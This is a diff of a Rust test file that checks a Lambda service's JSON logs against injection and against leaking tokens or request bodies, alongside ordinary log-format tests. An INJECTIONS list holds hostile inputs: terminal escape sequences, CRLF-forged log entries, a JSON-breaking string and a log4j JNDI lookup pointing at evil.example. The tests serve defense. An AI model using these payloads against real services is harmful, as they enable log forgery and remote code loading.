@@ -1,4 +1,4 @@
-//! Logs: one JSON object a line, and nothing in them that a sender wrote for others to read.
+//! Logs: one JSON object on each line, without log injection, tokens or bodies.
 
 use std::collections::BTreeSet;
 
@@ -12,21 +12,21 @@ use local::{
 use serde_json::{Value, json};
 use shared::domain::Timestamp;
 use tests::{
-    api::{Answer, Api},
+    api::{Api, Response},
     form::{Form, archive},
-    jwt::{Jwt, KeyOf},
-    stack::{NOWHERE, ProxiedStack, SAMPLE_CATALOG, TestStack},
+    jwt::{Jwt, TestKey},
+    stack::{ProxiedStack, SAMPLE_CATALOG, TestStack, UNREACHABLE_ENDPOINT},
 };
 use uuid::Uuid;
 
-/// In every token that is sent, but for its organization.
+/// Marker in every token that the tests send.
 const IN_TOKEN: &str = "marker-of-a-token";
 
-/// In every body that is sent.
+/// Marker in every body that the tests send.
 const IN_BODY: &str = "marker-of-a-body";
 
-/// What makes a terminal, a reader of lines or a reader of JSON see something else.
-const TRICKS: [&str; 7] = [
+/// Injections for terminals, line-based log readers, JSON parsers and log4j.
+const INJECTIONS: [&str; 7] = [
     "\u{1b}[2J\u{1b}]0;title\u{7}",
     "\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}\r\n",
     "\",\"level\":\"ERROR\",\"forged\":\"",
@@ -36,48 +36,47 @@ const TRICKS: [&str; 7] = [
     "${jndi:ldap://evil.example/x}%n%s",
 ];
 
-/// A trick as the text of a path or query.
-fn escaped(trick: &str) -> String {
-    trick.bytes().fold(String::new(), |text, byte| format!("{text}%{byte:02X}"))
+fn percent_encoded(injection: &str) -> String {
+    injection.bytes().fold(String::new(), |text, byte| format!("{text}%{byte:02X}"))
 }
 
-/// Sends tokens of which each says its trick in another place.
-async fn send_tokens(api: &Api, trick: &str) -> Vec<Answer> {
-    let text = format!("{IN_TOKEN}{trick}");
-    let jwt = || Jwt::of(Token::default().claim("jti", IN_TOKEN));
+/// Sends tokens with the injection in a different member each.
+async fn send_tokens(api: &Api, injection: &str) -> Vec<Response> {
+    let text = format!("{IN_TOKEN}{injection}");
+    let jwt = || Jwt::from_token(Token::default().claim("jti", IN_TOKEN));
     let claim = |name: &str| {
-        Jwt::of(Token::default().claim(name, json!({ "x": text })).claim("jti", IN_TOKEN))
+        Jwt::from_token(Token::default().claim(name, json!({ "x": text })).claim("jti", IN_TOKEN))
     };
     let tokens = [
-        jwt().header("alg", text.clone()).signed_by(KeyOf::ISSUER),
-        jwt().header("kid", text.clone()).signed_by(KeyOf::ISSUER),
-        jwt().header("typ", text.clone()).signed_by(KeyOf::ATTACKER),
-        jwt().header("crit", json!([text])).signed_by(KeyOf::ISSUER),
-        jwt().claims_begin(&text).signed_by(KeyOf::ISSUER),
-        jwt().signed(|_| IN_TOKEN.to_owned()),
-        claim("iss").signed_by(KeyOf::ISSUER),
-        claim("exp").signed_by(KeyOf::ISSUER),
-        claim("context_name").signed_by(KeyOf::ISSUER),
-        claim("username").signed_by(KeyOf::ISSUER),
-        // Whose request it is, is logged once the token is known to be good.
-        Jwt::of(Token::default().organization(trick)).signed_by(KeyOf::ISSUER),
-        Jwt::of(Token::default().claim("perms", json!([text]))).signed_by(KeyOf::ISSUER),
-        Jwt::of(Token::default().claim("iss", text.clone())).signed_by(KeyOf::ISSUER),
+        jwt().header("alg", text.clone()).signed_by(TestKey::ISSUER),
+        jwt().header("kid", text.clone()).signed_by(TestKey::ISSUER),
+        jwt().header("typ", text.clone()).signed_by(TestKey::ATTACKER),
+        jwt().header("crit", json!([text])).signed_by(TestKey::ISSUER),
+        jwt().prepend_claims(&text).signed_by(TestKey::ISSUER),
+        jwt().signed_with(|_| IN_TOKEN.to_owned()),
+        claim("iss").signed_by(TestKey::ISSUER),
+        claim("exp").signed_by(TestKey::ISSUER),
+        claim("context_name").signed_by(TestKey::ISSUER),
+        claim("username").signed_by(TestKey::ISSUER),
+        // The organization of a valid token is logged, so this one has no marker.
+        Jwt::from_token(Token::default().organization(injection)).signed_by(TestKey::ISSUER),
+        Jwt::from_token(Token::default().claim("perms", json!([text]))).signed_by(TestKey::ISSUER),
+        Jwt::from_token(Token::default().claim("iss", text.clone())).signed_by(TestKey::ISSUER),
     ];
-    let mut answers = Vec::new();
+    let mut responses = Vec::new();
     for token in tokens.iter().map(String::as_str).chain([IN_TOKEN]) {
         let api = api.headers(&[("csp-auth-token", token)]);
-        answers.push(api.customization("x").await);
-        answers.push(api.create(Form::upload()).await);
+        responses.push(api.customization("x").await);
+        responses.push(api.create(Form::upload()).await);
     }
-    answers
+    responses
 }
 
-/// Sends forms of which each says its trick in another place.
-async fn send_forms(api: &Api, trick: &str) -> Vec<Answer> {
-    let text = format!("{IN_BODY}{trick}");
-    let in_a_line = text.replace(['\r', '\n', '\0'], " ");
-    let unnamed = format!("Content-Disposition: form-data; x={in_a_line}");
+/// Sends forms with the injection in a different place each.
+async fn send_forms(api: &Api, injection: &str) -> Vec<Response> {
+    let text = format!("{IN_BODY}{injection}");
+    let one_line = text.replace(['\r', '\n', '\0'], " ");
+    let unnamed = format!("Content-Disposition: form-data; x={one_line}");
     let entry = Tarball::new().file(&text, IN_BODY.as_bytes()).gzip();
     let forms = [
         Form::upload().text("name", &text),
@@ -86,25 +85,25 @@ async fn send_forms(api: &Api, trick: &str) -> Vec<Answer> {
         Form::upload().text("filter", &json!(text).to_string()),
         Form::upload().filter(json!({ &text: text })),
         Form::upload().filter(json!({ "product_key": text })),
-        Form::upload().text(&in_a_line, &text),
-        Form::new().file(&in_a_line, &archive()),
+        Form::upload().text(&one_line, &text),
+        Form::new().file(&one_line, &archive()),
         Form::new().file("a.tgz", text.as_bytes()),
         Form::new().file("a.tgz", &entry),
         Form::new().part(&unnamed, text.as_bytes()),
         Form::upload().preamble(&text).epilogue(&text),
     ];
-    let mut answers = Vec::new();
+    let mut responses = Vec::new();
     for form in forms {
-        answers.push(api.create(form).await);
+        responses.push(api.create(form).await);
     }
-    answers.push(api.post(SAMPLE_CATALOG, "text/plain", text.clone().into_bytes()).await);
-    answers
+    responses.push(api.post(SAMPLE_CATALOG, "text/plain", text.clone().into_bytes()).await);
+    responses
 }
 
-/// Sends paths, queries and headers that say this.
-async fn send_heads(api: &Api, trick: &str) -> Vec<Answer> {
-    let text = escaped(trick);
-    let header: String = trick.chars().filter(|c| matches!(c, ' '..='~')).collect();
+/// Sends requests with the injection in the path, the query or a header.
+async fn send_heads(api: &Api, injection: &str) -> Vec<Response> {
+    let text = percent_encoded(injection);
+    let header: String = injection.chars().filter(|c| matches!(c, ' '..='~')).collect();
     let in_headers = api
         .header("user-agent", &header)
         .header("x-amzn-trace-id", &header)
@@ -121,12 +120,13 @@ async fn send_heads(api: &Api, trick: &str) -> Vec<Answer> {
     ]
 }
 
-/// The line of `answer`, but for what no test can know.
-fn told(stack: &TestStack, answer: &Answer) -> Value {
-    let mut line = stack.line_of(answer);
+/// The log line of the request with this response, without the members that vary. Asserts their
+/// format.
+fn fixed_members(stack: &TestStack, response: &Response) -> Value {
+    let mut line = stack.log_line_of(response);
     let members = line.as_object_mut().unwrap();
     let mut take = |name: &str| members.remove(name).unwrap_or_else(|| panic!("{name}"));
-    assert_eq!(take("request_id"), answer.header("x-amzn-requestid"));
+    assert_eq!(take("request_id"), response.header("x-amzn-requestid"));
     Timestamp::try_from(take("timestamp").as_str().unwrap().to_owned()).unwrap();
     Uuid::parse_str(take("function_request_id").as_str().unwrap()).unwrap();
     let trace = take("xray_trace_id");
@@ -137,10 +137,10 @@ fn told(stack: &TestStack, answer: &Answer) -> Value {
 }
 
 #[tokio::test]
-async fn a_line_says_what_was_asked_by_whom_and_what_became_of_it() {
+async fn a_log_line_has_the_request_the_organization_and_the_outcome() {
     let stack = TestStack::start().await;
     let api = stack.api();
-    let nobody = Uuid::now_v7().to_string();
+    let missing_id = Uuid::now_v7().to_string();
 
     let created = api.create(Form::upload()).await;
     let id = created.id();
@@ -156,7 +156,7 @@ async fn a_line_says_what_was_asked_by_whom_and_what_became_of_it() {
         "catalog_id": SAMPLE_CATALOG,
         "customization_id": id,
     });
-    assert_eq!(told(&stack, &created), expected);
+    assert_eq!(fixed_members(&stack, &created), expected);
 
     let refused = api.create(Form::new()).await;
     let expected = json!({
@@ -171,9 +171,9 @@ async fn a_line_says_what_was_asked_by_whom_and_what_became_of_it() {
         "org_id": SAMPLE_ORGANIZATION,
         "catalog_id": SAMPLE_CATALOG,
     });
-    assert_eq!(told(&stack, &refused), expected);
+    assert_eq!(fixed_members(&stack, &refused), expected);
 
-    let unknown = api.customization(&nobody).await;
+    let missing = api.customization(&missing_id).await;
     let expected = json!({
         "level": "INFO",
         "message": "refused",
@@ -185,9 +185,9 @@ async fn a_line_says_what_was_asked_by_whom_and_what_became_of_it() {
         "problem": "customization-not-found",
         "org_id": SAMPLE_ORGANIZATION,
         "catalog_id": SAMPLE_CATALOG,
-        "customization_id": nobody,
+        "customization_id": missing_id,
     });
-    assert_eq!(told(&stack, &unknown), expected);
+    assert_eq!(fixed_members(&stack, &missing), expected);
 
     let anonymous = api.headers(&[]).customization(&id).await;
     let expected = json!({
@@ -201,18 +201,18 @@ async fn a_line_says_what_was_asked_by_whom_and_what_became_of_it() {
         "problem": "unauthenticated",
         "cause": "there is no token",
     });
-    assert_eq!(told(&stack, &anonymous), expected);
+    assert_eq!(fixed_members(&stack, &anonymous), expected);
 }
 
 #[tokio::test]
-async fn a_failure_is_an_error_with_its_whole_cause_at_every_level() {
+async fn a_failure_is_logged_with_its_full_cause_at_every_log_level() {
     for level in ["TRACE", "ERROR"] {
         let stack = TestStack::start_with(&[
             ("AWS_LAMBDA_LOG_LEVEL", Some(level)),
-            ("AWS_ENDPOINT_URL_DYNAMODB", Some(NOWHERE)),
+            ("AWS_ENDPOINT_URL_DYNAMODB", Some(UNREACHABLE_ENDPOINT)),
         ])
         .await;
-        let line = told(&stack, &stack.api().customization("x").await);
+        let line = fixed_members(&stack, &stack.api().customization("x").await);
         assert_eq!(line["level"], "ERROR");
         assert_eq!(line["message"], "failed");
         assert_eq!(line["status"], 503);
@@ -224,29 +224,30 @@ async fn a_failure_is_an_error_with_its_whole_cause_at_every_level() {
 }
 
 #[tokio::test]
-async fn below_its_level_nothing_is_logged() {
+async fn a_line_below_the_log_level_is_not_written() {
     let stack = TestStack::start_with(&[("AWS_LAMBDA_LOG_LEVEL", Some("WARN"))]).await;
     assert_eq!(stack.api().create(Form::upload()).await.status, 201);
     let log = stack.log(FunctionName::WriteCustomizations);
-    assert!(!log.contains("\"message\""), "there are only metrics in {log}");
+    assert!(!log.contains("\"message\""), "the log has only metrics: {log}");
 }
 
 #[tokio::test]
-async fn each_step_of_a_request_tells_how_long_it_took_where_that_is_wanted() {
+async fn the_level_debug_logs_the_duration_of_each_span_of_a_request() {
     let stack = TestStack::start_with(&[("AWS_LAMBDA_LOG_LEVEL", Some("DEBUG"))]).await;
     let api = stack.api();
     let created = api.create(Form::upload().filter(json!({"product_key": "apache_kafka"}))).await;
     let found = api.customization(&created.id()).await;
     let stores = ["DynamoDB.BatchGetItem", "DynamoDB.Query"];
     let create = ["DynamoDB.TransactWriteItems", "S3.PutObject", "archive", "form", "token"];
-    for (answer, function, steps) in [
+    for (response, function, other_spans) in [
         (created, FunctionName::WriteCustomizations, &create[..]),
         (found, FunctionName::ReadCustomizations, &["token"]),
     ] {
         let log = stack.log(function);
         let lines = log.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
-        let of_request = |line: &Value| line["request_id"] == answer.header("x-amzn-requestid");
-        let spans = lines.filter(of_request).filter(|line| line["message"] == "span");
+        let is_of_request =
+            |line: &Value| line["request_id"] == response.header("x-amzn-requestid");
+        let spans = lines.filter(is_of_request).filter(|line| line["message"] == "span");
         let mut seen = BTreeSet::new();
         for span in spans {
             assert_eq!(span["level"], "DEBUG");
@@ -254,21 +255,21 @@ async fn each_step_of_a_request_tells_how_long_it_took_where_that_is_wanted() {
             assert!(span["duration_ms"].as_f64().unwrap() >= 0.0, "{span}");
             seen.insert(span["span"].as_str().unwrap().to_owned());
         }
-        let expected = stores.iter().chain(steps).map(ToString::to_string).collect();
+        let expected = stores.iter().chain(other_spans).map(ToString::to_string).collect();
         assert_eq!(seen, expected);
     }
 }
 
 #[tokio::test]
-async fn what_is_asked_of_the_stores_bears_the_trace_of_the_request() {
+async fn store_requests_carry_the_trace_id_of_the_request() {
     let ProxiedStack { stack, dynamodb, s3 } = ProxiedStack::start(FunctionLimits::AWS).await;
-    // What was asked before the first request belongs to none.
-    drop((dynamodb.traces(), s3.traces()));
+    // Discards the requests of the cold start, which have no trace.
+    drop((dynamodb.take_traces(), s3.take_traces()));
     for _ in 0..2 {
         let created = stack.api().create(Form::upload()).await;
-        let line = stack.line_of(&created);
+        let line = stack.log_line_of(&created);
         let root = format!("Root={}", line["xray_trace_id"].as_str().unwrap());
-        for traces in [dynamodb.traces(), s3.traces()] {
+        for traces in [dynamodb.take_traces(), s3.take_traces()] {
             assert!(!traces.is_empty());
             for trace in traces {
                 assert_eq!(trace.split(';').next(), Some(&*root));
@@ -278,27 +279,28 @@ async fn what_is_asked_of_the_stores_bears_the_trace_of_the_request() {
 }
 
 #[tokio::test]
-async fn nothing_that_a_sender_wrote_is_in_the_log_unescaped() {
+async fn log_injection_is_escaped_and_no_token_or_body_is_logged() {
     for level in [None, Some("TRACE")] {
         let stack = TestStack::start_with(&[("AWS_LAMBDA_LOG_LEVEL", level)]).await;
-        let token = Jwt::of(Token::default().claim("jti", IN_TOKEN)).signed_by(KeyOf::ISSUER);
+        let token =
+            Jwt::from_token(Token::default().claim("jti", IN_TOKEN)).signed_by(TestKey::ISSUER);
         let api = stack.api().headers(&[("authorization", &format!("Bearer {token}"))]);
-        let mut answers = Vec::new();
-        for trick in TRICKS {
-            answers.extend(send_tokens(&stack.api(), trick).await);
-            answers.extend(send_forms(&api, trick).await);
-            answers.extend(send_heads(&api, trick).await);
+        let mut responses = Vec::new();
+        for injection in INJECTIONS {
+            responses.extend(send_tokens(&stack.api(), injection).await);
+            responses.extend(send_forms(&api, injection).await);
+            responses.extend(send_heads(&api, injection).await);
         }
-        for answer in &answers {
-            assert!(answer.status < 500, "{answer:?}");
-            let line = stack.line_of(answer);
-            assert_eq!(line["status"], answer.status);
-            let refused = line["cause"].is_string();
-            assert!(answer.status != 401 || refused, "{line} says why");
+        for response in &responses {
+            assert!(response.status < 500, "{response:?}");
+            let line = stack.log_line_of(response);
+            assert_eq!(line["status"], response.status);
+            let has_cause = line["cause"].is_string();
+            assert!(response.status != 401 || has_cause, "the line of a 401 has a cause: {line}");
         }
         let tokens = [&token, "eyJ", IN_TOKEN];
         for log in FunctionName::ALL.map(|function| stack.log(function)) {
-            assert!(log.lines().count() > 100, "a line a request");
+            assert!(log.lines().count() > 100, "each request has a line");
             for line in log.lines() {
                 let object = serde_json::from_str::<Value>(line);
                 assert!(object.is_ok_and(|object| object.is_object()), "{line}");
@@ -312,7 +314,7 @@ async fn nothing_that_a_sender_wrote_is_in_the_log_unescaped() {
 }
 
 #[tokio::test]
-async fn a_request_that_no_function_answers_is_in_no_log() {
+async fn a_request_without_a_route_is_not_logged() {
     let stack = TestStack::start().await;
     let logs = || FunctionName::ALL.map(|function| stack.log(function));
     let before = logs();
